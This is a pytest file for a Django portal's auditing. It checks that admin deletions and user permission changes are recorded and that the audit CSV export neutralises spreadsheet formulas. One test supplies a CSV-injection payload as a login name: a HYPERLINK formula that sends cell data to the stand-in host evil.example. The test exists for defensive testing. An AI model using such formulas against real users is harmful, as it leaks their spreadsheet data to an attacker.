"""Audit: deletions and changes in the admin, users' staff flags and groups are audited; the
audit CSV cannot carry a formula into a spreadsheet."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group

from knowledge.ingest.pipeline import ingest_version
from knowledge.ingest.registration import register_file
from knowledge.models import Document, Source
from portal.models import AuditEvent

pytestmark = pytest.mark.django_db


def test_a_source_deleted_in_the_admin_is_audited_with_its_name(client, alice):
    source = Source.objects.create(name="Board minutes")
    ingest_version(
        register_file(source, "m.txt", b"Minutes of the board.", enqueue=False).version.pk
    )
    client.force_login(alice)
    response = client.post(f"/admin/knowledge/source/{source.pk}/delete/", {"post": "yes"})
    assert response.status_code == 302 and not Source.objects.exists()
    assert not Document.objects.exists()
    event = AuditEvent.objects.get(action="admin-delete")
    assert event.actor == alice and "Board minutes" in event.target
    assert event.detail["model"] == "knowledge.Source" and event.address == "127.0.0.1"
    # The list's bulk "delete selected" too.
    others = [Source.objects.create(name=f"Old {i}") for i in range(2)]
    client.post(
        "/admin/knowledge/source/",
        {"action": "delete_selected", "_selected_action": [s.pk for s in others], "post": "yes"},
    )
    targets = set(AuditEvent.objects.filter(action="admin-delete").values_list("target", flat=True))
    assert any("Old 0" in t for t in targets) and any("Old 1" in t for t in targets)


def test_a_users_staff_flag_and_groups_changed_in_the_admin_are_audited(client, alice, bob):
    readers = Group.objects.create(name="board-readers")
    client.force_login(alice)
    form = {
        "username": "bob",
        "first_name": "",
        "last_name": "",
        "email": "bob@example.com",
        "is_active": "on",
        "is_staff": "on",
        "groups": [readers.pk],
        "date_joined_0": "2025-01-01",
        "date_joined_1": "10:00:00",
        "initial-date_joined_0": "2025-01-01",
        "initial-date_joined_1": "10:00:00",
    }
    response = client.post(f"/admin/auth/user/{bob.pk}/change/", form)
    assert response.status_code == 302, response.content.decode()[:2000]
    bob.refresh_from_db()
    assert bob.is_staff and list(bob.groups.values_list("name", flat=True)) == ["board-readers"]
    event = AuditEvent.objects.get(action="user-access")
    assert event.actor == alice and event.target == "bob"
    assert event.detail["changes"]["is_staff"] == {"from": False, "to": True}
    assert event.detail["changes"]["groups"] == {"from": [], "to": ["board-readers"]}
    assert AuditEvent.objects.filter(action="admin-change", target__contains="bob").exists()
    # A group's change in the admin is audited too.
    client.post(f"/admin/auth/group/{readers.pk}/change/", {"name": "board", "permissions": []})
    assert AuditEvent.objects.filter(action="admin-change", target__contains="board").exists()


def test_the_audit_csv_neutralises_cells_a_spreadsheet_would_run(client, alice):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    client.post("/login/", {"username": evil, "password": "x"})
    client.post("/login/", {"username": "+1+2", "password": "x"})
    client.post("/login/", {"username": "@SUM(1)", "password": "x"})
    client.force_login(alice)
    body = client.get("/audit/", {"format": "csv"}).content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + evil in cells and "'+1+2" in cells and "'@SUM(1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
